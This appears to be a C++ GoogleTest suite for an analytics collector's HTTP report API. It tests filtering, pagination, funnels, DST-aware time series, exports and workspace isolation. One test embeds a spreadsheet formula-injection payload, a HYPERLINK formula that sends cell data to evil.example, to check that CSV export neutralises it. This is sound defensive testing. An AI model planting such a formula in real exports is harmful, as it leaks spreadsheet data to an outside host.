// The report API (docs/API.md) over real HTTP on 127.0.0.1 against an in-process collector
// writing a real SQLite file: events go in through POST /v1/batch with a server key (so
// derived_at = created_at, exact), reports come out of the report routes with read keys.
#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>
#include <thread>

#include "collector_test_util.h"

namespace tally::collector {
namespace {

using nlohmann::json;
using testing::AtomicFakeClock;
using testing::EventMaker;
using testing::TempDir;
using testing::TestOptions;

constexpr int64_t kNow = 1735689600000;  // 2025-01-01T00:00:00Z
constexpr int64_t kT0 = 1731681120000;   // 2024-11-15T14:32:00Z
constexpr int64_t kHour = 3600000;
const std::string kAll = "from=0&to=" + std::to_string(kNow);

// RFC 4180 parsing, enough to check what the export wrote.
std::vector<std::vector<std::string>> ParseCsv(const std::string& text) {
  std::vector<std::vector<std::string>> rows(1);
  std::string field;
  bool quoted = false, any = false;
  for (size_t i = 0; i < text.size(); ++i) {
    char c = text[i];
    if (quoted) {
      if (c == '"' && i + 1 < text.size() && text[i + 1] == '"') {
        field += '"';
        ++i;
      } else if (c == '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c == '"') {
      quoted = true;
    } else if (c == ',') {
      rows.back().push_back(field);
      field.clear();
    } else if (c == '\r' && i + 1 < text.size() && text[i + 1] == '\n') {
      rows.back().push_back(field);
      field.clear();
      rows.emplace_back();
      ++i;
    } else {
      field += c;
    }
    any = true;
  }
  if (any && rows.back().empty() && field.empty()) rows.pop_back();
  return rows;
}

class ReportApi : public ::testing::Test {
 protected:
  void SetUp() override {
    CollectorOptions o = TestOptions(dir_);
    o.rate_limit_rps = 0;
    WorkspaceConfig other;
    other.name = "other";
    other.read_keys.push_back("rk_other");
    other.server_keys.push_back("sk_other");
    o.workspaces.push_back(other);
    collector_ = std::make_unique<Collector>(std::move(o), &clock_);
    Status s = collector_->Start();
    ASSERT_TRUE(s.ok()) << s.message();
    client_ = std::make_unique<httplib::Client>("127.0.0.1", collector_->port());
  }

  // One event; `extra` adds or replaces fields (user_id, properties, context, ...).
  json Ev(int64_t t, const std::string& name, json extra = json::object()) {
    json e = {{"event_id", ids_.Id(t)}, {"type", "track"},          {"name", name},
              {"user_id", "C-1"},       {"anonymous_id", "anon-1"}, {"created_at", t}};
    for (auto& [k, v] : extra.items()) {
      if (v.is_null()) {
        e.erase(k);
      } else {
        e[k] = v;
      }
    }
    return e;
  }
  void Post(const std::vector<json>& events, const std::string& key = "sk_test") {
    for (size_t i = 0; i < events.size(); i += 1000) {
      json batch = {{"events", json::array()}};
      for (size_t j = i; j < std::min(events.size(), i + 1000); ++j)
        batch["events"].push_back(events[j]);
      auto r = client_->Post("/v1/batch", {{"Authorization", "Bearer " + key}}, batch.dump(),
                             "application/json");
      ASSERT_TRUE(r);
      ASSERT_EQ(r->status, 200) << r->body;
      ASSERT_EQ(json::parse(r->body)["rejected"].size(), 0u) << r->body;
    }
  }
  httplib::Result Get(const std::string& path, const std::string& key = "rk_test") {
    httplib::Headers h;
    if (!key.empty()) h.emplace("Authorization", "Bearer " + key);
    return client_->Get(path.c_str(), h);
  }
  json GetJson(const std::string& path, const std::string& key = "rk_test") {
    auto r = Get(path, key);
    EXPECT_TRUE(r);
    if (!r) return json();
    EXPECT_EQ(r->status, 200) << path << " -> " << r->body;
    return json::parse(r->body);
  }
  static std::vector<std::string> Names(const json& page) {
    std::vector<std::string> out;
    for (const auto& e : page["events"]) out.push_back(e["name"]);
    return out;
  }

  TempDir dir_;
  AtomicFakeClock clock_{kNow};
  EventMaker ids_{7};
  std::unique_ptr<Collector> collector_;
  std::unique_ptr<httplib::Client> client_;
};

TEST_F(ReportApi, EventsFilterOnEveryDocumentedField) {
  Post({Ev(kT0, "impression",
           {{"session_id", "s-1"},
            {"properties", {{"channel", "email"}, {"step", 3}, {"done", true}}},
            {"context", {{"content_id", "CNT-1"}, {"workflow_id", "WF-1"}, {"flow_id", "F"}}}}),
        Ev(kT0 + 1000, "click", {{"user_id", "C-2"}, {"properties", {{"channel", "web"}}}}),
        Ev(kT0 + 2000, "Viewed page",
           {{"type", "page"}, {"user_id", nullptr}, {"anonymous_id", "anon-9"}}),
        Ev(kT0 + 3000, "conversion", {{"properties", {{"price", 25.5}}}})});
  auto names = [&](const std::string& q) { return Names(GetJson("/v1/events?" + kAll + "&" + q)); };
  using V = std::vector<std::string>;
  EXPECT_EQ(names("name=impression&name=click"), (V{"impression", "click"}));
  EXPECT_EQ(names("name=impression,conversion"), (V{"impression", "conversion"}));
  EXPECT_EQ(names("type=page"), (V{"Viewed page"}));
  EXPECT_EQ(names("user_id=C-2"), (V{"click"}));
  EXPECT_EQ(names("anonymous_id=anon-9"), (V{"Viewed page"}));
  EXPECT_EQ(names("session_id=s-1"), (V{"impression"}));
  EXPECT_EQ(names("prop.channel=web"), (V{"click"}));
  EXPECT_EQ(names("prop.step=3&prop.done=true"), (V{"impression"}));
  EXPECT_EQ(names("prop.price=25.5"), (V{"conversion"}));
  EXPECT_EQ(names("content_id=CNT-1&workflow_id=WF-1"), (V{"impression"}));
  EXPECT_EQ(names("context.flow_id=F"), (V{"impression"}));
  EXPECT_EQ(Names(GetJson("/v1/events?from=" + std::to_string(kT0 + 1000) +
                          "&to=" + std::to_string(kT0 + 3000))),
            (V{"click", "Viewed page"}));
  EXPECT_EQ(names("prop.channel=fax"), V{});

  json first = GetJson("/v1/events?" + kAll + "&name=impression")["events"][0];
  EXPECT_EQ(first["derived_at"], kT0);
  EXPECT_EQ(first["session_id"], "s-1");
  EXPECT_EQ(first["properties"]["channel"], "email");
  EXPECT_EQ(first["context"]["content_id"], "CNT-1");
  json anon = GetJson("/v1/events?" + kAll + "&type=page")["events"][0];
  EXPECT_TRUE(anon["user_id"].is_null());
}

TEST_F(ReportApi, EmptyRangesAnswerEmptyResultsNotErrors) {
  Post({Ev(kT0, "impression")});
  std::string empty = "from=" + std::to_string(kT0 + 1) + "&to=" + std::to_string(kT0 + 1);
  json page = GetJson("/v1/events?" + empty);
  EXPECT_EQ(page["events"].size(), 0u);
  EXPECT_TRUE(page["next_cursor"].is_null());
  json o = GetJson("/v1/stats/overview?" + empty);
  EXPECT_EQ(o["events"], 0);
  EXPECT_EQ(o["top_events"].size(), 0u);
  json b = GetJson("/v1/stats/breakdown?" + empty);
  EXPECT_EQ(b["total"], 0);
  EXPECT_EQ(b["rows"].size(), 0u);
  json f = GetJson("/v1/stats/funnel?steps=impression,click&" + empty);
  EXPECT_EQ(f["steps"][0]["users"], 0);
  EXPECT_EQ(f["steps"][1]["conversion_from_previous"], 0.0);
  json ts = GetJson("/v1/stats/timeseries?interval=hour&" + empty);
  ASSERT_EQ(ts["points"].size(), 1u);
  EXPECT_EQ(ts["points"][0]["value"], 0);
  auto csv = Get("/v1/export?format=csv&" + empty);
  ASSERT_TRUE(csv);
  EXPECT_EQ(csv->body,
            "event_id,type,name,user_id,anonymous_id,session_id,created_at,sent_at,received_at,"
            "derived_at,properties,context\r\n");
  EXPECT_EQ(Get("/v1/export?format=json&" + empty)->body, "[]");
}

TEST_F(ReportApi, CursorPagesNeitherRepeatNorSkipWhileEventsKeepArriving) {
  // 300 events over 60 distinct times: ties on derived_at are broken by event_id.
  std::vector<json> initial;
  for (int i = 0; i < 300; ++i)
    initial.push_back(Ev(kT0 + (i % 60) * 1000, "e" + std::to_string(i)));
  Post(initial);
  std::set<std::string> want;
  for (const auto& e : initial) want.insert(e["event_id"]);

  std::vector<std::pair<int64_t, std::string>> seen;
  std::string cursor;
  int64_t late = kT0 - 5000;
  for (int page = 0; page < 100; ++page) {
    json p =
        GetJson("/v1/events?" + kAll + "&limit=37" + (cursor.empty() ? "" : "&cursor=" + cursor));
    for (const auto& e : p["events"]) seen.emplace_back(e["derived_at"], e["event_id"]);
    // Between pages: an event in the past (before the cursor), one at the cursor's time, and
    // one in the future of the range.
    int64_t at = seen.empty() ? kT0 : seen.back().first;
    Post({Ev(late--, "late"), Ev(at, "tie"), Ev(kT0 + 100000 + page, "new")});
    if (p["next_cursor"].is_null()) break;
    cursor = p["next_cursor"];
  }
  ASSERT_TRUE(std::is_sorted(seen.begin(), seen.end()));
  std::set<std::pair<int64_t, std::string>> unique(seen.begin(), seen.end());
  EXPECT_EQ(unique.size(), seen.size()) << "a page repeated an event";
  size_t found = 0;
  for (const auto& [t, id] : seen) found += want.count(id);
  EXPECT_EQ(found, want.size()) << "a page skipped an event stored before the first page";
}

TEST_F(ReportApi, DescendingPagesWalkBackInTime) {
  std::vector<json> evs;
  for (int i = 0; i < 25; ++i) evs.push_back(Ev(kT0 + i * 1000, "e" + std::to_string(i)));
  Post(evs);
  std::vector<std::string> names;
  std::string cursor;
  do {
    json p = GetJson("/v1/events?" + kAll + "&order=desc&limit=10" +
                     (cursor.empty() ? "" : "&cursor=" + cursor));
    for (auto& n : Names(p)) names.push_back(n);
    cursor = p["next_cursor"].is_null() ? "" : p["next_cursor"].get<std::string>();
  } while (!cursor.empty());
  ASSERT_EQ(names.size(), 25u);
  EXPECT_EQ(names.front(), "e24");
  EXPECT_EQ(names.back(), "e0");
}

TEST_F(ReportApi, UserTimelineFallsBackToAnonymousIdAndSummarizesPerName) {
  Post({Ev(kT0, "impression"), Ev(kT0 + 1000, "impression"), Ev(kT0 + 2000, "click"),
        Ev(kT0 + 3000, "Viewed page", {{"user_id", nullptr}, {"anonymous_id", "anon-42"}}),
        Ev(kT0 + 4000, "impression", {{"user_id", "C-2"}})});
  json t = GetJson("/v1/users/C-1/events");
  EXPECT_EQ(Names(t), (std::vector<std::string>{"impression", "impression", "click"}));
  EXPECT_EQ(t["matched_on"], "user_id");
  json anon = GetJson("/v1/users/anon-42/events");
  EXPECT_EQ(Names(anon), (std::vector<std::string>{"Viewed page"}));
  EXPECT_EQ(anon["matched_on"], "anonymous_id");

  json s = GetJson("/v1/users/C-1/summary");
  EXPECT_EQ(s["user_id"], "C-1");
  EXPECT_EQ(s["total"], 3);
  ASSERT_EQ(s["events"].size(), 2u);
  EXPECT_EQ(s["events"][0]["name"], "impression");
  EXPECT_EQ(s["events"][0]["count"], 2);
  EXPECT_EQ(s["events"][0]["first_seen"], kT0);
  EXPECT_EQ(s["events"][0]["last_seen"], kT0 + 1000);
  EXPECT_EQ(GetJson("/v1/users/nobody/summary")["total"], 0);
}

TEST_F(ReportApi, SeedUseCasesRotationPollAndConversionAfterBanner) {
  std::ifstream in(std::string(TALLY_FIXTURES_DIR) + "/seed-events.ndjson");
  ASSERT_TRUE(in) << "seed fixture missing";
  std::vector<json> seed;
  for (std::string line; std::getline(in, line);) {
    if (!line.empty()) seed.push_back(json::parse(line));
  }
  ASSERT_EQ(seed.size(), 33u);
  Post(seed);
  // Rotation: how often has C-2847391 seen content v2?
  json rotation =
      GetJson("/v1/users/C-2847391/summary?name=impression&content_id=CNT-reco-shoes-v2");
  ASSERT_EQ(rotation["events"].size(), 1u);
  EXPECT_EQ(rotation["events"][0]["count"], 1);
  EXPECT_EQ(
      GetJson(
          "/v1/users/C-2847391/summary?name=impression&workflow_id=WF-lifecycle-banner")["total"],
      3);
  // Poll: C-2847391 answered the style question; lead_XYZ789 never did.
  const std::string poll =
      "summary?name=poll_response&prop.poll_question=What%27s%20your%20preferred%20style%3F";
  EXPECT_EQ(GetJson("/v1/users/C-2847391/" + poll)["total"], 1);
  EXPECT_EQ(GetJson("/v1/users/lead_XYZ789/" + poll)["total"], 0);
  // Escalation: converted after the banner impression? C-2847391 yes, C-5566778 no.
  auto converted_after_banner = [&](const std::string& user) {
    json banner = GetJson("/v1/users/" + user +
                          "/events?name=impression&workflow_id=WF-lifecycle-banner&limit=1");
    int64_t from = banner["events"][0]["derived_at"];
    return GetJson("/v1/users/" + user +
                   "/events?name=conversion&from=" + std::to_string(from))["events"]
        .size();
  };
  EXPECT_EQ(converted_after_banner("C-2847391"), 1u);
  EXPECT_EQ(converted_after_banner("C-5566778"), 0u);
  // And the same data in aggregate.
  json f = GetJson("/v1/stats/funnel?" + kAll + "&steps=impression,click,conversion&window=1h");
  EXPECT_EQ(f["steps"][0]["users"], 3);
  EXPECT_EQ(f["steps"][1]["users"], 3);
  EXPECT_EQ(f["steps"][2]["users"], 1);
  json o = GetJson("/v1/stats/overview?" + kAll);
  EXPECT_EQ(o["events"], 33);
  EXPECT_EQ(o["top_events"][0]["name"], "impression");
  EXPECT_EQ(o["top_events"][0]["count"], 9);
}

TEST_F(ReportApi, TimeseriesDaysFollowParisDstWith23And25HourDays) {
  // Local times in Paris: 00:30 and 23:30 on each transition day land on that day.
  const int64_t mar31_0030 = 1711841400000;  // 2024-03-30T23:30:00Z = 00:30 CET
  const int64_t mar31_2330 = 1711920600000;  // 2024-03-31T21:30:00Z = 23:30 CEST
  const int64_t oct27_0030 = 1729981800000;  // 2024-10-26T22:30:00Z = 00:30 CEST
  const int64_t oct27_2330 = 1730068200000;  // 2024-10-27T22:30:00Z = 23:30 CET
  const int64_t oct28_0030 = 1730071800000;  // 2024-10-27T23:30:00Z = 00:30 CET on the 28th
  Post({Ev(mar31_0030, "a"), Ev(mar31_2330, "a"), Ev(oct27_0030, "a"), Ev(oct27_2330, "a"),
        Ev(oct28_0030, "a")});
  json ts =
      GetJson("/v1/stats/timeseries?interval=day&tz=Europe/Paris&from=2024-03-30&to=2024-04-02");
  ASSERT_EQ(ts["points"].size(), 3u);
  EXPECT_EQ(ts["points"][1]["time"], "2024-03-31T00:00:00+01:00");
  EXPECT_EQ(ts["points"][1]["value"], 2);
  EXPECT_EQ(ts["points"][2]["t"].get<int64_t>() - ts["points"][1]["t"].get<int64_t>(), 23 * kHour);
  EXPECT_EQ(ts["points"][0]["value"], 0);

  ts = GetJson("/v1/stats/timeseries?interval=day&tz=Europe/Paris&from=2024-10-27&to=2024-10-29");
  ASSERT_EQ(ts["points"].size(), 2u);
  EXPECT_EQ(ts["points"][0]["time"], "2024-10-27T00:00:00+02:00");
  EXPECT_EQ(ts["points"][1]["t"].get<int64_t>() - ts["points"][0]["t"].get<int64_t>(), 25 * kHour);
  EXPECT_EQ(ts["points"][0]["value"], 2);  // 00:30 CEST and 23:30 CET
  EXPECT_EQ(ts["points"][1]["value"], 1);  // 00:30 CET on the 28th

  // The same instants in UTC fall on other days.
  ts = GetJson("/v1/stats/timeseries?interval=day&from=2024-03-30&to=2024-04-01");
  EXPECT_EQ(ts["points"][0]["value"], 1);
  EXPECT_EQ(ts["points"][1]["value"], 1);
  ts = GetJson("/v1/stats/timeseries?interval=hour&tz=Europe/Paris&from=2024-10-27&to=2024-10-28");
  EXPECT_EQ(ts["points"].size(), 25u);
}

TEST_F(ReportApi, TimeseriesCountsUniqueUsersPerBucket) {
  Post({Ev(kT0, "a"), Ev(kT0 + 1, "a"), Ev(kT0 + 2, "a", {{"user_id", "C-2"}}),
        Ev(kT0 + kHour, "a", {{"user_id", nullptr}, {"anonymous_id", "anon-7"}})});
  std::string range = "&from=" + std::to_string(kT0 - kT0 % kHour) +
                      "&to=" + std::to_string(kT0 - kT0 % kHour + 2 * kHour);
  json users = GetJson("/v1/stats/timeseries?interval=hour&metric=users" + range);
  ASSERT_EQ(users["points"].size(), 2u);
  EXPECT_EQ(users["points"][0]["value"], 2);
  EXPECT_EQ(users["points"][1]["value"], 1);
  json events = GetJson("/v1/stats/timeseries?interval=hour" + range);
  EXPECT_EQ(events["points"][0]["value"], 3);
}

TEST_F(ReportApi, BreakdownTopValuesOtherAndMissingAsNull) {
  std::vector<json> evs;
  auto add = [&](int n, json props) {
    for (int i = 0; i < n; ++i)
      evs.push_back(Ev(kT0 + static_cast<int64_t>(evs.size()), "x", {{"properties", props}}));
  };
  add(5, {{"channel", "email"}});
  add(4, {{"channel", "Café ☕"}});
  add(3, {{"channel", 7}});
  add(2, {{"channel", true}});
  add(1, json::object());
  add(1, {{"channel", nullptr}});
  add(1, {{"channel", "say \"hi\"\n"}});
  Post(evs);
  json b = GetJson("/v1/stats/breakdown?" + kAll + "&by=prop.channel&limit=3");
  EXPECT_EQ(b["total"], 17);
  ASSERT_EQ(b["rows"].size(), 3u);
  EXPECT_EQ(b["rows"][0]["value"], "email");
  EXPECT_EQ(b["rows"][1]["value"], "Café ☕");
  EXPECT_EQ(b["rows"][1]["value_type"], "string");
  EXPECT_EQ(b["rows"][2]["value"], "7");
  EXPECT_EQ(b["rows"][2]["value_type"], "number");
  EXPECT_EQ(b["other"], 5);
  json all = GetJson("/v1/stats/breakdown?" + kAll + "&by=prop.channel");
  // Ties order by value, the null value first.
  EXPECT_TRUE(all["rows"][3]["value"].is_null()) << "absent and JSON null are one group";
  EXPECT_EQ(all["rows"][3]["count"], 2);
  EXPECT_EQ(all["rows"][4]["value_type"], "bool");
  EXPECT_EQ(all["rows"][5]["value"], "say \"hi\"\n") << "escapes decoded";
  // Unicode values filter and export unchanged.
  EXPECT_EQ(GetJson("/v1/events?" + kAll + "&prop.channel=Caf%C3%A9%20%E2%98%95")["events"].size(),
            4u);
  json by_name = GetJson("/v1/stats/breakdown?" + kAll + "&by=name&metric=users");
  EXPECT_EQ(by_name["rows"][0]["count"], 1);
  EXPECT_EQ(by_name["total"], 1);
}

TEST_F(ReportApi, FunnelCountsOrderedStepsWithinTheWindow) {
  Post({// C-1: a, b, c in order within an hour
        Ev(kT0, "a"), Ev(kT0 + 1000, "b"), Ev(kT0 + 2000, "c"),
        // C-2: b before a does not count; then a, and c without b
        Ev(kT0, "b", {{"user_id", "C-2"}}), Ev(kT0 + 1000, "a", {{"user_id", "C-2"}}),
        Ev(kT0 + 2000, "c", {{"user_id", "C-2"}}),
        // C-3: a, then b two hours later (outside a 1h window)
        Ev(kT0, "a", {{"user_id", "C-3"}}), Ev(kT0 + 2 * kHour, "b", {{"user_id", "C-3"}})});
  json f = GetJson("/v1/stats/funnel?" + kAll + "&steps=a,b,c&window=1h");
  EXPECT_EQ(f["window_ms"], kHour);
  EXPECT_EQ(f["steps"][0]["users"], 3);
  EXPECT_EQ(f["steps"][1]["users"], 1);
  EXPECT_EQ(f["steps"][2]["users"], 1);
  EXPECT_NEAR(f["steps"][1]["conversion_from_previous"].get<double>(), 1.0 / 3, 1e-9);
  json wide = GetJson("/v1/stats/funnel?" + kAll + "&steps=a,b&window=1d");
  EXPECT_EQ(wide["steps"][1]["users"], 2);
}

// The collector's rollup job shows its progress in /metrics: the events it has not folded in
// yet, then none once it has caught up (it runs every 2 s; this waits for that, with a bound).
TEST_F(ReportApi, RollupJobProgressIsInTheMetrics) {
  Post({Ev(kT0, "a"), Ev(kT0 + 1, "b"), Ev(kT0 + 2, "c")});
  auto metric = [&](const std::string& name) {
    std::string body = client_->Get("/metrics")->body;
    size_t at = body.find("\n" + name + " ");
    EXPECT_NE(at, std::string::npos) << body;
    return at == std::string::npos ? int64_t{-1} : std::stoll(body.substr(at + name.size() + 2));
  };
  const int64_t lag = metric("tally_rollup_lag_rows");
  EXPECT_GE(lag, 0);
  EXPECT_LE(lag, 3);
  int64_t folded = 0;
  for (int i = 0; i < 300 && (folded = metric("tally_rollup_rows_total")) < 3; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_EQ(folded, 3);
  EXPECT_EQ(metric("tally_rollup_lag_rows"), 0);
  EXPECT_EQ(metric("tally_rollup_failures_total"), 0);
}

TEST_F(ReportApi, CsvExportGuardsFormulasUnlessAskedToKeepThem) {
  const std::string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
  Post({Ev(kT0, formula, {{"user_id", "+1 555"}})});
  auto guarded = ParseCsv(Get("/v1/export?format=csv&" + kAll)->body);
  ASSERT_EQ(guarded.size(), 2u);
  EXPECT_EQ(guarded[1][2], "'" + formula);
  EXPECT_EQ(guarded[1][3], "'+1 555");
  auto kept = ParseCsv(Get("/v1/export?format=csv&formulas=keep&" + kAll)->body);
  ASSERT_EQ(kept.size(), 2u);
  EXPECT_EQ(kept[1][2], formula);
  EXPECT_EQ(kept[1][3], "+1 555");
  // NDJSON is data, not a spreadsheet: never altered.
  EXPECT_EQ(json::parse(Get("/v1/export?format=ndjson&" + kAll)->body)["name"], formula);
  auto bad = Get("/v1/export?format=csv&formulas=maybe&" + kAll);
  EXPECT_EQ(bad->status, 400);
  EXPECT_NE(bad->body.find("formulas: must be guard or keep"), std::string::npos);
}

TEST_F(ReportApi, ExportsCsvNdjsonAndJsonWithHostileValues) {
  const std::string hostile = "comma, \"quote\"\r\nnew line; é 🎉";
  Post({Ev(kT0, hostile, {{"properties", {{"note", hostile}}}}), Ev(kT0 + 1, "plain")});
  auto r = Get("/v1/export?format=csv&" + kAll);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200);
  EXPECT_EQ(r->get_header_value("Content-Type"), "text/csv; charset=utf-8");
  EXPECT_EQ(r->get_header_value("Content-Disposition"),
            "attachment; filename=\"tally-acme-19700101T000000Z-20250101T000000Z.csv\"");
  auto rows = ParseCsv(r->body);
  ASSERT_EQ(rows.size(), 3u);
  ASSERT_EQ(rows[1].size(), 12u);
  EXPECT_EQ(rows[0][2], "name");
  EXPECT_EQ(rows[1][2], hostile);
  EXPECT_EQ(json::parse(rows[1][10])["note"], hostile);
  EXPECT_EQ(rows[2][2], "plain");

  auto nd = Get("/v1/export?format=ndjson&" + kAll);
  std::istringstream lines(nd->body);
  std::vector<json> parsed;
  for (std::string line; std::getline(lines, line);) parsed.push_back(json::parse(line));
  ASSERT_EQ(parsed.size(), 2u);
  EXPECT_EQ(parsed[0]["name"], hostile);
  json arr = json::parse(Get("/v1/export?format=json&" + kAll)->body);
  ASSERT_EQ(arr.size(), 2u);
  EXPECT_EQ(arr[1]["name"], "plain");
}

TEST_F(ReportApi, ExportStreamsMoreRowsThanOneChunk) {
  std::vector<json> evs;
  for (int i = 0; i < 2500; ++i) evs.push_back(Ev(kT0 + i, "e", {{"properties", {{"i", i}}}}));
  Post(evs);
  auto r = Get("/v1/export?format=ndjson&" + kAll);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->get_header_value("Transfer-Encoding"), "chunked");
  EXPECT_EQ(std::count(r->body.begin(), r->body.end(), '\n'), 2500);
}

TEST_F(ReportApi, BadParametersAnswer400NamingTheParameter) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"/v1/events?limit=0", "limit: "},
      {"/v1/events?limit=1001", "limit: "},
      {"/v1/events?limit=ten", "limit: "},
      {"/v1/events?cursor=garbage", "cursor: "},
      {"/v1/events?order=sideways", "order: "},
      {"/v1/events?from=yesterday", "from: "},
      {"/v1/events?from=2024-11-16&to=2024-11-15", "to: "},
      {"/v1/events?type=click", "type: "},
      {"/v1/events?user_id=a&user_id=b", "user_id: "},
      {"/v1/events?name=", "name: "},
      {"/v1/events?colour=red", "colour: "},
      {"/v1/events?prop.=x", "prop.: "},
      {"/v1/stats/timeseries?interval=fortnight", "interval: "},
      {"/v1/stats/timeseries?interval=minute&from=0", "interval: "},
      {"/v1/stats/timeseries?metric=revenue", "metric: "},
      {"/v1/stats/timeseries?tz=Mars/Olympus", "tz: "},
      {"/v1/stats/breakdown?by=colour", "by: "},
      {"/v1/stats/breakdown?limit=0", "limit: "},
      {"/v1/stats/funnel", "steps: "},
      {"/v1/stats/funnel?steps=a,,b", "steps: "},
      {"/v1/stats/funnel?steps=a&window=7w", "window: "},
      {"/v1/export?format=xml", "format: "},
  };
  for (const auto& [path, prefix] : cases) {
    auto r = Get(path);
    ASSERT_TRUE(r) << path;
    EXPECT_EQ(r->status, 400) << path << " -> " << r->body;
    std::string error = json::parse(r->body).value("error", "");
    EXPECT_EQ(error.rfind(prefix, 0), 0u) << path << " -> " << error;
  }
}

TEST_F(ReportApi, KeysReadKeyOnlyAndNothingLeaksAcrossWorkspaces) {
  Post({Ev(kT0, "secret", {{"user_id", "C-1"}}), Ev(kT0 + 20, "secret2", {{"user_id", "C-1"}})});
  Post({Ev(kT0 + 10, "theirs", {{"user_id", "C-9"}})}, "sk_other");
  EXPECT_EQ(Get("/v1/events", "")->status, 401);
  EXPECT_EQ(Get("/v1/events", "rk_nope")->status, 401);
  EXPECT_EQ(Get("/v1/events", "wk_test")->status, 403);
  EXPECT_EQ(Get("/v1/events", "sk_test")->status, 403);
  EXPECT_EQ(Get("/v1/export?format=csv", "wk_test")->status, 403);
  EXPECT_EQ(client_->Get(("/v1/events?key=rk_test&" + kAll).c_str())->status, 200);

  auto names = [&](const std::string& path) {
    json page = GetJson(path, "rk_other");
    return Names(page);
  };
  EXPECT_EQ(names("/v1/events?" + kAll), (std::vector<std::string>{"theirs"}));
  EXPECT_EQ(names("/v1/users/C-1/events?" + kAll), std::vector<std::string>{});
  EXPECT_EQ(GetJson("/v1/users/C-1/summary", "rk_other")["total"], 0);
  EXPECT_EQ(GetJson("/v1/stats/overview?" + kAll, "rk_other")["events"], 1);
  EXPECT_EQ(GetJson("/v1/stats/breakdown?" + kAll, "rk_other")["rows"][0]["value"], "theirs");
  EXPECT_EQ(GetJson("/v1/stats/funnel?" + kAll + "&steps=secret", "rk_other")["steps"][0]["users"],
            0);
  auto csv = Get("/v1/export?format=csv&" + kAll, "rk_other");
  EXPECT_EQ(csv->body.find("secret"), std::string::npos);
  // A cursor taken from one workspace is only a position: used with the other workspace's key it
  // reads that workspace's events after it, never the first one's.
  json mine = GetJson("/v1/events?" + kAll + "&limit=1");
  EXPECT_EQ(mine["events"][0]["name"], "secret");
  std::string cursor = mine["next_cursor"];
  EXPECT_EQ(names("/v1/events?" + kAll + "&cursor=" + cursor),
            (std::vector<std::string>{"theirs"}));
  EXPECT_EQ(Names(GetJson("/v1/events?" + kAll + "&cursor=" + cursor)),
            (std::vector<std::string>{"secret2"}));
}

TEST_F(ReportApi, DashboardIsServedWithItsAssets) {
  auto page = client_->Get("/");
  ASSERT_TRUE(page);
  EXPECT_EQ(page->status, 200);
  EXPECT_NE(page->body.find("/dashboard/app.js"), std::string::npos);
  auto js = client_->Get("/dashboard/app.js");
  ASSERT_TRUE(js);
  EXPECT_EQ(js->status, 200);
  EXPECT_EQ(js->get_header_value("Content-Type"), "text/javascript; charset=utf-8");
  EXPECT_EQ(client_->Get("/dashboard/nope.js")->status, 404);
}

}  // namespace
}  // namespace tally::collector
